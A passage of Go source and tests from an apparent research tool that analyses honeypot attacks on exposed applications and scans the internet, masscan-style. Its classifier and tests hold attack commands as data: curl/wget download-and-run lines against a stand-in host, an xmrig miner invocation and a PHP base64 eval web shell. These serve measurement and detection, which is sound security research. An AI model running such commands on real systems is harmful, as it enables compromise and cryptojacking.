	if s.AvgAll != 6 { // gaps 4h and 8h
		t.Errorf("AvgAll = %v, want 6", s.AvgAll)
	}
	// One unique attack, measured from exposure.
	if s.AvgUnique != 2 || s.ShortestUnique != 2 || s.LongestUnique != 2 {
		t.Errorf("unique gaps = %v/%v/%v, want 2", s.ShortestUnique, s.LongestUnique, s.AvgUnique)
	}
}

func TestClusterAttackersLinksByPayloadAndIP(t *testing.T) {
	ip1, ip2, ip3 := netip.MustParseAddr("1.1.1.1"), netip.MustParseAddr("2.2.2.2"), netip.MustParseAddr("3.3.3.3")
	attacks := []Attack{
		{App: mav.Hadoop, Src: ip1, Start: t0, Payload: "pA"},
		{App: mav.Docker, Src: ip2, Start: t0.Add(time.Hour), Payload: "pA"},         // same payload → same actor
		{App: mav.Docker, Src: ip2, Start: t0.Add(2 * time.Hour), Payload: "pB"},     // same IP → same actor
		{App: mav.JupyterLab, Src: ip3, Start: t0.Add(3 * time.Hour), Payload: "pC"}, // unrelated
	}
	clusters := ClusterAttackers(attacks)
	if len(clusters) != 2 {
		t.Fatalf("clusters = %d, want 2", len(clusters))
	}
	big := clusters[0]
	if big.Attacks != 3 || len(big.IPs) != 2 || len(big.Apps) != 2 {
		t.Fatalf("big cluster: %+v", big)
	}
	multi := MultiAppAttackers(clusters)
	if len(multi) != 1 {
		t.Fatalf("multi-app attackers = %d", len(multi))
	}
	if share := TopShare(clusters, 1); share != 0.75 {
		t.Fatalf("TopShare(1) = %v, want 0.75", share)
	}
}

func TestTable7And8Geo(t *testing.T) {
	db := geo.Default()
	nl, _ := db.PrefixFor(func(r geo.Record) bool { return r.ASN == "AS211252" })
	br, _ := db.PrefixFor(func(r geo.Record) bool { return r.ASN == "AS268624" })
	var attacks []Attack
	for i := 0; i < 5; i++ {
		attacks = append(attacks, Attack{App: mav.Hadoop, Src: nl.Addr().Next(), Start: t0, Payload: fmt.Sprint(i)})
	}
	attacks = append(attacks, Attack{App: mav.Hadoop, Src: br.Addr().Next(), Start: t0, Payload: "x"})
	t7 := Table7(attacks, db)
	if t7[0].Country != "Netherlands" || t7[0].Attacks != 5 || t7[0].ASes != 1 {
		t.Fatalf("Table7 top row: %+v", t7[0])
	}
	t8 := Table8(attacks, db)
	if t8[0].ASN != "AS211252" || t8[0].Provider != "Serverion BV" || t8[0].Countries != 1 {
		t.Fatalf("Table8 top row: %+v", t8[0])
	}
}

func TestVersionBinning(t *testing.T) {
	scan := time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)
	cases := []struct {
		released time.Time
		want     int
	}{
		{time.Date(2015, 1, 1, 0, 0, 0, 0, time.UTC), 0}, // ancient
		{scan.AddDate(0, -40, 0), 0},                     // > 3 years
		{scan.AddDate(0, -35, 0), 1},                     // oldest half-year bin
		{scan.AddDate(0, -7, 0), 5},
		{scan.AddDate(0, -1, 0), 6}, // newest bin
	}
	for _, c := range cases {
		if got := binFor(scan, c.released); got != c.want {
			t.Errorf("binFor(%v) = %d, want %d", c.released, got, c.want)
		}
	}
}

func TestFigure3Points(t *testing.T) {
	attacks := Uniquify([]Attack{
		{App: mav.Hadoop, Src: netip.MustParseAddr("1.1.1.1"), Start: t0.Add(90 * time.Minute), Payload: "p"},
	})
	points := Figure3(attacks, t0)
	if len(points) != 1 || points[0].Hour != 1.5 || !points[0].New {
		t.Fatalf("points = %+v", points)
	}
}

func TestClassifyCommand(t *testing.T) {
	cases := []struct {
		cmd  string
		want Purpose
	}{
		{"./xmrig -o stratum+tcp://pool:4444", PurposeCryptojacking},
		{"wget -q http://x/kinsing; ./kinsing", PurposeKinsing},
		{"curl -fsSL http://x/a.sh | sh", PurposeDropper},
		{"shutdown -h now", PurposeVigilante},
		{"<?php eval(base64_decode($_GET['q'])); ?>", PurposeDefacement},
		{"id", PurposeUnknown},
	}
	for _, c := range cases {
		if got := ClassifyCommand(c.cmd); got != c.want {
			t.Errorf("ClassifyCommand(%q) = %s, want %s", c.cmd, got, c.want)
		}
	}
}

func TestClassifyAttackEscalates(t *testing.T) {
	a := Attack{Commands: []string{
		"curl -fsSL http://x/a.sh | sh", // dropper...
		"./xmrig -o stratum+tcp://p:1",  // ...that starts a miner
	}}
	if got := ClassifyAttack(a); got != PurposeCryptojacking {
		t.Fatalf("ClassifyAttack = %s, want cryptojacking", got)
	}
}

func TestPurposeBreakdownAndShare(t *testing.T) {
	attacks := []Attack{
		{Commands: []string{"./xmrig -o stratum+tcp://p:1"}},
		{Commands: []string{"./kinsing"}},
		{Commands: []string{"curl http://x | sh"}},
		{Commands: []string{"shutdown -h now"}},
	}
	rows := PurposeBreakdown(attacks)
	if len(rows) != 4 {
		t.Fatalf("breakdown rows = %d", len(rows))
	}
	if share := CryptojackingShare(attacks); share != 0.5 {
		t.Fatalf("cryptojacking share = %v, want 0.5", share)
	}
}

// TestSessionizeOrderInsensitiveProperty: the store may receive events out
// of order (shippers race); sessionization must produce the same attacks
// regardless of append order because it sorts by time first.
func TestSessionizeOrderInsensitiveProperty(t *testing.T) {
	f := func(perm []uint8) bool {
		base := []eslite.Event{
			execEvent(0, "h1", "Hadoop", "1.1.1.1", "a"),
			execEvent(5*time.Minute, "h1", "Hadoop", "1.1.1.1", "b"),
			execEvent(40*time.Minute, "h1", "Hadoop", "1.1.1.1", "c"),
			execEvent(10*time.Minute, "h1", "Hadoop", "2.2.2.2", "d"),
			execEvent(2*time.Hour, "h2", "Docker", "1.1.1.1", "e"),
		}
		var shuffled, ordered eslite.Store
		for _, e := range base {
			ordered.Append(e)
		}
		// Permute via the fuzz input.
		idx := []int{0, 1, 2, 3, 4}
		for i, p := range perm {
			j := int(p) % len(idx)
			k := i % len(idx)
			idx[j], idx[k] = idx[k], idx[j]
		}
		for _, i := range idx {
			shuffled.Append(base[i])
		}
		a := Sessionize(&ordered)
		b := Sessionize(&shuffled)
		if len(a) != len(b) {
			return false
		}
		for i := range a {
			if a[i].Src != b[i].Src || !a[i].Start.Equal(b[i].Start) || len(a[i].Commands) != len(b[i].Commands) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}

// TestUniquifyCountBoundsProperty: per application, the number of unique
// attacks can never exceed the number of distinct payloads nor the number
// of distinct source IPs.
func TestUniquifyCountBoundsProperty(t *testing.T) {
	f := func(seeds []uint16) bool {
		var attacks []Attack
		for i, s := range seeds {
			attacks = append(attacks, Attack{
				App:     mav.Hadoop,
				Src:     netip.AddrFrom4([4]byte{10, 0, 0, byte(s % 7)}),
				Start:   t0.Add(time.Duration(i) * time.Hour),
				Payload: fmt.Sprintf("p%d", s%5),
			})
		}
		Uniquify(attacks)
		payloads := map[string]bool{}
		ips := map[netip.Addr]bool{}
		unique := 0
		for _, a := range attacks {
			payloads[a.Payload] = true
			ips[a.Src] = true
			if a.Unique {
				unique++
			}
		}
		return unique <= len(payloads) && unique <= len(ips)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}
