package analysis

import (
	"sort"
	"time"

	"mavscan/internal/mav"
	"mavscan/internal/scanner"
)

// Figure 1 separates software release dates into 7 half-year bins and
// compares secure against vulnerable instances.

// VersionBins is the number of release-date bins in Figure 1.
const VersionBins = 7

// binBoundaries returns the lower bound of each bin relative to the scan
// date: bin 0 is "older than 3 years", bins 1..6 are half-year steps up to
// the scan date.
func binBoundaries(scanDate time.Time) []time.Time {
	bounds := make([]time.Time, VersionBins)
	for i := 1; i < VersionBins; i++ {
		bounds[i] = scanDate.AddDate(0, -6*(VersionBins-i), 0)
	}
	// bounds[0] stays zero: everything older falls into bin 0.
	return bounds
}

// binFor places a release date into its bin.
func binFor(scanDate, released time.Time) int {
	bounds := binBoundaries(scanDate)
	bin := 0
	for i := 1; i < VersionBins; i++ {
		if !released.Before(bounds[i]) {
			bin = i
		}
	}
	return bin
}

// VersionAgeHistogram is one Figure-1 panel: per-bin instance counts split
// by security state.
type VersionAgeHistogram struct {
	App        mav.App // empty for the all-applications panel
	Secure     [VersionBins]int
	Vulnerable [VersionBins]int
}

// Figure1 builds the overall histogram plus per-application panels for the
// requested applications (the paper details Jupyter Notebook and Hadoop).
func Figure1(observations []scanner.AppObservation, scanDate time.Time, detail ...mav.App) []VersionAgeHistogram {
	panels := make([]VersionAgeHistogram, 1+len(detail))
	for i, app := range detail {
		panels[1+i].App = app
	}
	for _, obs := range observations {
		if obs.Released.IsZero() {
			continue
		}
		bin := binFor(scanDate, obs.Released)
		add := func(p *VersionAgeHistogram) {
			if obs.Vulnerable() {
				p.Vulnerable[bin]++
			} else {
				p.Secure[bin]++
			}
		}
		add(&panels[0])
		for i, app := range detail {
			if obs.App == app {
				add(&panels[1+i])
			}
		}
	}
	return panels
}

// MedianReleaseDate returns the median release date of the observations
// with a known version (the RQ2 per-category medians).
func MedianReleaseDate(observations []scanner.AppObservation) (time.Time, bool) {
	var dates []time.Time
	for _, obs := range observations {
		if !obs.Released.IsZero() {
			dates = append(dates, obs.Released)
		}
	}
	if len(dates) == 0 {
		return time.Time{}, false
	}
	sort.Slice(dates, func(i, j int) bool { return dates[i].Before(dates[j]) })
	return dates[len(dates)/2], true
}

// FilterByCategory keeps the observations of one application category.
func FilterByCategory(observations []scanner.AppObservation, cat mav.Category) []scanner.AppObservation {
	var out []scanner.AppObservation
	for _, obs := range observations {
		if mav.MustLookup(obs.App).Category == cat {
			out = append(out, obs)
		}
	}
	return out
}

// RecencyShares reports the fraction of observations released within six
// months of the scan, within the previous year, and older (the headline
// RQ2 numbers: ~65% / ~25% / ~10%).
func RecencyShares(observations []scanner.AppObservation, scanDate time.Time) (recent, mid, old float64) {
	var r, m, o, n int
	for _, obs := range observations {
		if obs.Released.IsZero() {
			continue
		}
		n++
		switch {
		case !obs.Released.Before(scanDate.AddDate(0, -6, 0)):
			r++
		case !obs.Released.Before(scanDate.AddDate(0, -18, 0)):
			m++
		default:
			o++
		}
	}
	if n == 0 {
		return 0, 0, 0
	}
	return float64(r) / float64(n), float64(m) / float64(n), float64(o) / float64(n)
}

// TimelinePoint is one attack in Figure 3's per-application timeline.
type TimelinePoint struct {
	App  mav.App
	Hour float64
	New  bool // yellow star (new) vs black star (repeated payload)
}

// Figure3 flattens the attacks into per-application timeline points.
func Figure3(attacks []Attack, start time.Time) []TimelinePoint {
	out := make([]TimelinePoint, 0, len(attacks))
	for _, a := range attacks {
		out = append(out, TimelinePoint{App: a.App, Hour: a.Start.Sub(start).Hours(), New: a.Unique})
	}
	return out
}
