package analysis

import (
	"sort"
	"strings"
)

// Payload-purpose classification (RQ4): the paper manually analyzed a
// sample of compromised machines and attributed most attacks to
// cryptojacking, with the Kinsing campaign and one vigilante standing out.
// This file automates that triage over the recorded commands.

// Purpose is the inferred goal of an attack.
type Purpose string

// The attack purposes observed in the study.
const (
	PurposeCryptojacking Purpose = "cryptojacking"
	PurposeKinsing       Purpose = "kinsing-campaign"
	PurposeDropper       Purpose = "stage-one-dropper"
	PurposeVigilante     Purpose = "vigilante"
	PurposeDefacement    Purpose = "spam-or-defacement"
	PurposeUnknown       Purpose = "unknown"
)

// ClassifyCommand infers the purpose of one executed command from the
// indicators the paper's manual analysis keyed on.
func ClassifyCommand(command string) Purpose {
	low := strings.ToLower(command)
	switch {
	case strings.Contains(low, "kinsing") || strings.Contains(low, "kdevtmpfsi"):
		return PurposeKinsing
	case strings.Contains(low, "xmrig") || strings.Contains(low, "stratum+tcp") ||
		strings.Contains(low, "minerd") || strings.Contains(low, "monero") ||
		strings.Contains(low, "cryptonight"):
		return PurposeCryptojacking
	case strings.Contains(low, "shutdown") || strings.Contains(low, "poweroff"):
		return PurposeVigilante
	case strings.Contains(low, "eval(base64_decode") || strings.Contains(low, "spam"):
		return PurposeDefacement
	case strings.Contains(low, "wget ") || strings.Contains(low, "curl "):
		return PurposeDropper
	default:
		return PurposeUnknown
	}
}

// ClassifyAttack infers the purpose of a sessionized attack from its
// recorded command sequence: the most severe classification across the
// session wins (a dropper that later starts a miner is cryptojacking).
func ClassifyAttack(a Attack) Purpose {
	best := PurposeUnknown
	rank := map[Purpose]int{
		PurposeUnknown:       0,
		PurposeDropper:       1,
		PurposeDefacement:    2,
		PurposeVigilante:     3,
		PurposeCryptojacking: 4,
		PurposeKinsing:       5,
	}
	for _, cmd := range a.Commands {
		p := ClassifyCommand(cmd)
		if rank[p] > rank[best] {
			best = p
		}
	}
	return best
}

// PurposeStats is one row of the purpose breakdown.
type PurposeStats struct {
	Purpose Purpose
	Attacks int
	Share   float64
}

// PurposeBreakdown classifies all attacks and returns the distribution,
// sorted by attack count descending.
func PurposeBreakdown(attacks []Attack) []PurposeStats {
	counts := map[Purpose]int{}
	for _, a := range attacks {
		counts[ClassifyAttack(a)]++
	}
	var out []PurposeStats
	for p, n := range counts {
		out = append(out, PurposeStats{Purpose: p, Attacks: n, Share: float64(n) / float64(len(attacks))})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Attacks != out[j].Attacks {
			return out[i].Attacks > out[j].Attacks
		}
		return out[i].Purpose < out[j].Purpose
	})
	return out
}

// CryptojackingShare returns the fraction of attacks attributable to
// mining (cryptojacking proper plus the Kinsing campaign) — the paper's
// "mostly abused for cryptojacking" observation.
func CryptojackingShare(attacks []Attack) float64 {
	if len(attacks) == 0 {
		return 0
	}
	n := 0
	for _, a := range attacks {
		switch ClassifyAttack(a) {
		case PurposeCryptojacking, PurposeKinsing:
			n++
		}
	}
	return float64(n) / float64(len(attacks))
}
