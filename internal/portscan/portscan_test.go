package portscan

import (
	"context"
	"net"
	"net/netip"
	"sync"
	"testing"
	"testing/quick"
	"time"

	"mavscan/internal/simnet"
)

// TestBlackRockIsPermutation proves the Feistel construction visits every
// index exactly once for a spread of awkward range sizes.
func TestBlackRockIsPermutation(t *testing.T) {
	for _, size := range []uint64{1, 2, 3, 7, 16, 100, 255, 256, 257, 1000, 4096, 65537} {
		br := newBlackRock(size, 0xfeed)
		seen := make(map[uint64]bool, size)
		for i := uint64(0); i < size; i++ {
			v := br.Shuffle(i)
			if v >= size {
				t.Fatalf("size %d: Shuffle(%d) = %d out of range", size, i, v)
			}
			if seen[v] {
				t.Fatalf("size %d: Shuffle(%d) = %d duplicated", size, i, v)
			}
			seen[v] = true
		}
	}
}

// TestBlackRockPermutationProperty is the property-based variant: for random
// (size, seed) pairs the shuffle must still be a bijection.
func TestBlackRockPermutationProperty(t *testing.T) {
	f := func(sizeRaw uint16, seed uint64) bool {
		size := uint64(sizeRaw)%2000 + 1
		br := newBlackRock(size, seed)
		seen := make(map[uint64]bool, size)
		for i := uint64(0); i < size; i++ {
			v := br.Shuffle(i)
			if v >= size || seen[v] {
				return false
			}
			seen[v] = true
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}

// TestBlackRockUnshuffleInverts proves Unshuffle is the exact inverse of
// Shuffle across awkward range sizes, covering both the fast (reciprocal)
// and slow (full-width modulo) round paths and the cycle-walking loop.
func TestBlackRockUnshuffleInverts(t *testing.T) {
	for _, size := range []uint64{1, 2, 3, 7, 16, 100, 255, 256, 257, 1000, 4096, 65537} {
		br := newBlackRock(size, 0xfeed)
		for i := uint64(0); i < size; i++ {
			c := br.Shuffle(i)
			if got := br.Unshuffle(c); got != i {
				t.Fatalf("size %d: Unshuffle(Shuffle(%d)) = %d", size, i, got)
			}
		}
	}
}

// TestBlackRockUnshuffleInvertsProperty is the property-based variant over
// random (size, seed) pairs, sampling large ranges where exhaustion is too
// slow.
func TestBlackRockUnshuffleInvertsProperty(t *testing.T) {
	f := func(sizeRaw uint32, seed uint64) bool {
		size := uint64(sizeRaw)%(1<<22) + 1
		br := newBlackRock(size, seed)
		step := size/997 + 1
		for i := uint64(0); i < size; i += step {
			if br.Unshuffle(br.Shuffle(i)) != i {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 25}); err != nil {
		t.Fatal(err)
	}
}

// TestPermutationExportedRoundTrip exercises the exported two-way API the
// lazy population generator consumes.
func TestPermutationExportedRoundTrip(t *testing.T) {
	p := NewPermutation(65536, 99)
	for i := uint64(0); i < 65536; i++ {
		if got := p.Inverse(p.Forward(i)); got != i {
			t.Fatalf("Inverse(Forward(%d)) = %d", i, got)
		}
	}
}

// TestBlackRockSpreadsBlocks checks the operational property the shuffle
// exists for: consecutive probe indices should not land in the same /24.
func TestBlackRockSpreadsBlocks(t *testing.T) {
	br := newBlackRock(1<<16, 42)
	same := 0
	prev := br.Shuffle(0)
	for i := uint64(1); i < 4096; i++ {
		v := br.Shuffle(i)
		if v/256 == prev/256 {
			same++
		}
		prev = v
	}
	// With 256 blocks of 256 addresses, ~1/256 of consecutive pairs should
	// share a block by chance; allow a generous margin.
	if same > 64 {
		t.Fatalf("randomized order still bursts blocks: %d/4096 consecutive pairs in the same /24", same)
	}
}

func TestScanFindsExactlyTheOpenPorts(t *testing.T) {
	n := simnet.New()
	want := map[Result]bool{
		{netip.MustParseAddr("10.0.0.5"), 80}:     true,
		{netip.MustParseAddr("10.0.1.9"), 443}:    true,
		{netip.MustParseAddr("10.0.1.9"), 8080}:   true,
		{netip.MustParseAddr("10.0.2.200"), 2375}: true,
	}
	hosts := map[netip.Addr]*simnet.Host{}
	for res := range want {
		h, ok := hosts[res.IP]
		if !ok {
			h = simnet.NewHost(res.IP)
			hosts[res.IP] = h
			if err := n.AddHost(h); err != nil {
				t.Fatal(err)
			}
		}
		h.Bind(res.Port, func(c net.Conn) { c.Close() })
	}
	cfg := Config{
		Targets: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/16")},
		Ports:   []int{80, 443, 2375, 8080},
		Workers: 8,
		Seed:    7,
	}
	var mu sync.Mutex
	got := map[Result]bool{}
	stats, err := New(n).Scan(context.Background(), cfg, func(r Result) {
		mu.Lock()
		got[r] = true
		mu.Unlock()
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(want) {
		t.Fatalf("got %d open ports, want %d: %v", len(got), len(want), got)
	}
	for r := range want {
		if !got[r] {
			t.Errorf("missing open port %v", r)
		}
	}
	if stats.Probed != uint64(1<<16)*4 {
		t.Errorf("probed %d, want %d", stats.Probed, uint64(1<<16)*4)
	}
}

func TestScanHonorsExclusions(t *testing.T) {
	n := simnet.New()
	ip := netip.MustParseAddr("10.0.0.5")
	h := simnet.NewHost(ip)
	h.Bind(80, func(c net.Conn) { c.Close() })
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	cfg := Config{
		Targets: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/24")},
		Exclude: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/28")},
		Ports:   []int{80},
		Workers: 2,
	}
	var mu sync.Mutex
	var results []Result
	stats, err := New(n).Scan(context.Background(), cfg, func(r Result) {
		mu.Lock()
		results = append(results, r)
		mu.Unlock()
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 0 {
		t.Fatalf("excluded address was probed: %v", results)
	}
	if stats.Excluded != 16 {
		t.Errorf("excluded %d probes, want 16", stats.Excluded)
	}
}

func TestScanCancellation(t *testing.T) {
	n := simnet.New()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	cfg := Config{
		Targets: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")},
		Ports:   []int{80},
		Workers: 4,
	}
	_, err := New(n).Scan(ctx, cfg, func(Result) {})
	if err == nil {
		t.Fatal("cancelled scan must return an error")
	}
}

// TestSpaceAddressing checks the flat-index→address mapping end to end: a
// sequential single-worker scan must visit exactly the target addresses in
// ascending order across disjoint prefixes.
func TestSpaceAddressing(t *testing.T) {
	var mu sync.Mutex
	var order []netip.Addr
	recorder := proberFunc(func(ip netip.Addr, port int) error {
		mu.Lock()
		order = append(order, ip)
		mu.Unlock()
		return simnet.ErrHostUnreachable
	})
	stats, err := New(recorder).Scan(context.Background(), Config{
		Targets: []netip.Prefix{
			netip.MustParsePrefix("192.168.1.0/31"),
			netip.MustParsePrefix("10.0.0.0/30"),
		},
		Ports:      []int{80},
		Workers:    1,
		Sequential: true,
	}, func(Result) {})
	if err != nil {
		t.Fatal(err)
	}
	if stats.Probed != 6 {
		t.Fatalf("probed = %d, want 6", stats.Probed)
	}
	wants := []string{"10.0.0.0", "10.0.0.1", "10.0.0.2", "10.0.0.3", "192.168.1.0", "192.168.1.1"}
	for i, w := range wants {
		if order[i].String() != w {
			t.Errorf("probe %d hit %s, want %s", i, order[i], w)
		}
	}
}

// proberFunc adapts a function to the Prober interface.
type proberFunc func(ip netip.Addr, port int) error

func (f proberFunc) ProbePort(ip netip.Addr, port int) error { return f(ip, port) }

// TestScanExcludeStraddlingTargets: an exclusion overlapping only part of
// the target space must remove exactly the overlap, and Stats.Excluded must
// report overlap-addresses × ports.
func TestScanExcludeStraddlingTargets(t *testing.T) {
	n := simnet.New()
	ip := netip.MustParseAddr("10.0.2.200")
	h := simnet.NewHost(ip)
	h.Bind(80, func(c net.Conn) { c.Close() })
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	cfg := Config{
		Targets: []netip.Prefix{
			netip.MustParsePrefix("10.0.0.0/24"),
			netip.MustParsePrefix("10.0.2.0/24"),
		},
		// Straddles the tail of the first target, all of a gap that is not
		// in the target space, and the head of the second target.
		Exclude: []netip.Prefix{netip.MustParsePrefix("10.0.0.128/23")}, // canonicalizes to 10.0.0.0/23
		Ports:   []int{80, 443},
		Workers: 4,
	}
	// 10.0.0.128/23 masks to 10.0.0.0/23 which covers the whole first /24
	// plus 10.0.1.0/24 (not a target). Overlap with targets = 256 addrs.
	var mu sync.Mutex
	var results []Result
	stats, err := New(n).Scan(context.Background(), cfg, func(r Result) {
		mu.Lock()
		results = append(results, r)
		mu.Unlock()
	})
	if err != nil {
		t.Fatal(err)
	}
	if stats.Excluded != 256*2 {
		t.Errorf("Excluded = %d, want 512", stats.Excluded)
	}
	if stats.Probed != 256*2 {
		t.Errorf("Probed = %d, want 512", stats.Probed)
	}
	if len(results) != 1 || results[0].IP != ip {
		t.Errorf("results = %v, want the one open host", results)
	}
}

// TestScanBatchesDeliversEveryResult: the batched API must deliver exactly
// the open set, across multiple flushes.
func TestScanBatchesDeliversEveryResult(t *testing.T) {
	n := simnet.New()
	want := map[Result]bool{}
	for i := 0; i < 600; i++ { // > 2×batchCap so full and partial flushes both happen
		ip := netip.AddrFrom4([4]byte{10, 0, byte(i / 256), byte(i % 256)})
		h := simnet.NewHost(ip)
		h.Bind(80, func(c net.Conn) { c.Close() })
		if err := n.AddHost(h); err != nil {
			t.Fatal(err)
		}
		want[Result{IP: ip, Port: 80}] = true
	}
	var mu sync.Mutex
	got := map[Result]bool{}
	batches := 0
	stats, err := New(n).ScanBatches(context.Background(), Config{
		Targets: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/22")},
		Ports:   []int{80},
		Workers: 2,
		Seed:    3,
	}, func(rs []Result) {
		mu.Lock()
		batches++
		for _, r := range rs {
			got[r] = true
		}
		mu.Unlock()
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(want) {
		t.Fatalf("got %d results, want %d (in %d batches)", len(got), len(want), batches)
	}
	for r := range want {
		if !got[r] {
			t.Errorf("missing %v", r)
		}
	}
	if stats.Open != uint64(len(want)) {
		t.Errorf("Open = %d, want %d", stats.Open, len(want))
	}
	if batches < 2 {
		t.Errorf("expected multiple batch flushes, got %d", batches)
	}
}

func TestIANAReservedList(t *testing.T) {
	prefixes := IANAReserved()
	// Spot-check the well-known members.
	member := func(ip string) bool {
		a := netip.MustParseAddr(ip)
		for _, p := range prefixes {
			if p.Contains(a) {
				return true
			}
		}
		return false
	}
	for _, ip := range []string{"127.0.0.1", "10.1.2.3", "192.168.1.1", "224.0.0.1", "240.0.0.1", "169.254.1.1"} {
		if !member(ip) {
			t.Errorf("%s should be reserved", ip)
		}
	}
	for _, ip := range []string{"8.8.8.8", "1.1.1.1", "52.1.2.3"} {
		if member(ip) {
			t.Errorf("%s should be scannable", ip)
		}
	}
	// Prefixes must be disjoint so the address count is exact.
	for i := range prefixes {
		for j := i + 1; j < len(prefixes); j++ {
			if prefixes[i].Overlaps(prefixes[j]) {
				t.Errorf("reserved prefixes %s and %s overlap", prefixes[i], prefixes[j])
			}
		}
	}
	// Excluding them leaves roughly 3.5B scannable addresses, as in the
	// paper.
	scannable := uint64(1)<<32 - ReservedAddressCount()
	if scannable < 3_400_000_000 || scannable > 3_700_000_000 {
		t.Errorf("scannable addresses = %d, want ≈3.5B", scannable)
	}
}

// TestRateLimiterBoundsThroughput runs a limited scan and checks the probe
// rate stayed near the configured cap.
func TestRateLimiterBoundsThroughput(t *testing.T) {
	if testing.Short() {
		t.Skip("sleeps against a wall clock")
	}
	n := simnet.New()
	cfg := Config{
		Targets:    []netip.Prefix{netip.MustParsePrefix("10.0.0.0/24")},
		Ports:      []int{80},
		Workers:    8,
		RatePerSec: 500,
	}
	stats, err := New(n).Scan(context.Background(), cfg, func(Result) {})
	if err != nil {
		t.Fatal(err)
	}
	if stats.Probed != 256 {
		t.Fatalf("probed %d, want 256", stats.Probed)
	}
	// 256 probes at 500/s should take at least ~0.4s even with the full
	// initial bucket (which covers the first 500).
	// With 256 < 500 the bucket absorbs everything; use a smaller rate.
	cfg.RatePerSec = 100
	start := time.Now()
	if _, err := New(n).Scan(context.Background(), cfg, func(Result) {}); err != nil {
		t.Fatal(err)
	}
	elapsed := time.Since(start)
	// 256 probes, initial bucket 100 → ~156 waited probes at 100/s ≈ 1.5s.
	if elapsed < private500ms {
		t.Fatalf("rate-limited scan finished in %v, limiter not engaged", elapsed)
	}
}

const private500ms = 500 * time.Millisecond
