package portscan

// blackRock is a format-preserving permutation over an arbitrary-size
// integer range, modeled on masscan's BlackRock cipher. It lets the scanner
// visit every address of the target space exactly once in a pseudorandom
// order without materializing the shuffle — the property that spreads probe
// load across /24 blocks instead of flooding one network (the paper's
// ethical-scanning requirement).
//
// The construction is a generalized (possibly unbalanced) Feistel network
// over the mixed radix pair a*b >= range, with cycle-walking to stay inside
// the range.
type blackRock struct {
	rangeSize uint64
	a, b      uint64
	seed      uint64
	rounds    int
	// rk holds one precomputed key per round, derived from the seed with a
	// strong mixer at construction time so the per-probe round function can
	// be a single multiply.
	rk [8]uint64
	// fastRounds enables the division-free round path: the PRF output is
	// truncated to 32 bits and reduced mod a/b with reciprocal multiplies
	// (exact because a, b < 2^31 at IPv4 scale). The Feistel structure is
	// a bijection for any round function, so the fast and slow paths are
	// each valid permutations; they differ only in which one.
	fastRounds bool
	aDiv, bDiv fastDivisor
	// fastA additionally replaces the two hardware divides of the initial
	// left/right split, exact over the whole cycle-walk domain [0, a*b).
	fastA bool
}

// newBlackRock builds a permutation over [0, rangeSize).
func newBlackRock(rangeSize, seed uint64) *blackRock {
	if rangeSize == 0 {
		return &blackRock{rangeSize: 0}
	}
	// Pick a and b around sqrt(rangeSize) with a*b >= rangeSize.
	a := isqrt(rangeSize - 1)
	if a < 1 {
		a = 1
	}
	for a*a < rangeSize {
		a++
	}
	b := a
	for a*(b-1) >= rangeSize && b > 1 {
		b--
	}
	br := &blackRock{rangeSize: rangeSize, a: a, b: b, seed: seed, rounds: 4}
	for r := range br.rk {
		br.rk[r] = splitmix64(seed + uint64(r)*0x9e3779b97f4a7c15)
	}
	br.aDiv = newFastDivisor(a)
	br.bDiv = newFastDivisor(b)
	// Round inputs are truncated to 32 bits, so the reciprocals must be
	// exact for numerators up to 2^32 (this also implies a, b < 2^31).
	br.fastRounds = br.aDiv.usable(1<<32) && br.bDiv.usable(1<<32)
	// Cycle-walking feeds values up to a*b-1 back through encryptOnce, so
	// the split reciprocal must be exact over [0, a*b).
	br.fastA = br.aDiv.usable(a * b)
	return br
}

func isqrt(n uint64) uint64 {
	if n == 0 {
		return 0
	}
	x := uint64(1) << ((bitsLen(n) + 1) / 2)
	for {
		y := (x + n/x) / 2
		if y >= x {
			return x
		}
		x = y
	}
}

func bitsLen(n uint64) int {
	l := 0
	for n > 0 {
		n >>= 1
		l++
	}
	return l
}

// splitmix64 is the finalizing mixer used to derive round keys.
func splitmix64(z uint64) uint64 {
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

// round is the Feistel round function: any pseudo-random function yields a
// valid permutation, so the hot path spends exactly one multiply — a
// murmur-style finalizer step keyed by a precomputed per-round key. Four
// such rounds spread consecutive indices across the space well enough for
// the /24-burst property (see TestBlackRockSpreadsBlocks).
func (br *blackRock) round(r int, right uint64) uint64 {
	z := (right ^ br.rk[r]) * 0xff51afd7ed558ccd
	return z ^ (z >> 33)
}

// encryptOnce runs one pass of the unbalanced Feistel network.
func (br *blackRock) encryptOnce(m uint64) uint64 {
	var left, right uint64
	if br.fastA {
		right = br.aDiv.div(m)
		left = m - right*br.a
	} else {
		left = m % br.a
		right = m / br.a
	}
	if br.fastRounds {
		// Division-free rounds: truncate the PRF to 32 bits, reduce it
		// mod a/b with a reciprocal multiply, and fold the modular
		// addition into a compare-subtract (left < mod and f < mod, so
		// one subtraction suffices and nothing can overflow).
		for r := 0; r < br.rounds; r++ {
			f := uint64(uint32(br.round(r, right)))
			var mod uint64
			if r&1 == 0 {
				mod = br.a
				f -= br.aDiv.div(f) * mod
			} else {
				mod = br.b
				f -= br.bDiv.div(f) * mod
			}
			tmp := left + f
			if tmp >= mod {
				tmp -= mod
			}
			left, right = right, tmp
		}
	} else {
		for r := 0; r < br.rounds; r++ {
			var tmp uint64
			if r&1 == 0 {
				tmp = (left + br.round(r, right)) % br.a
			} else {
				tmp = (left + br.round(r, right)) % br.b
			}
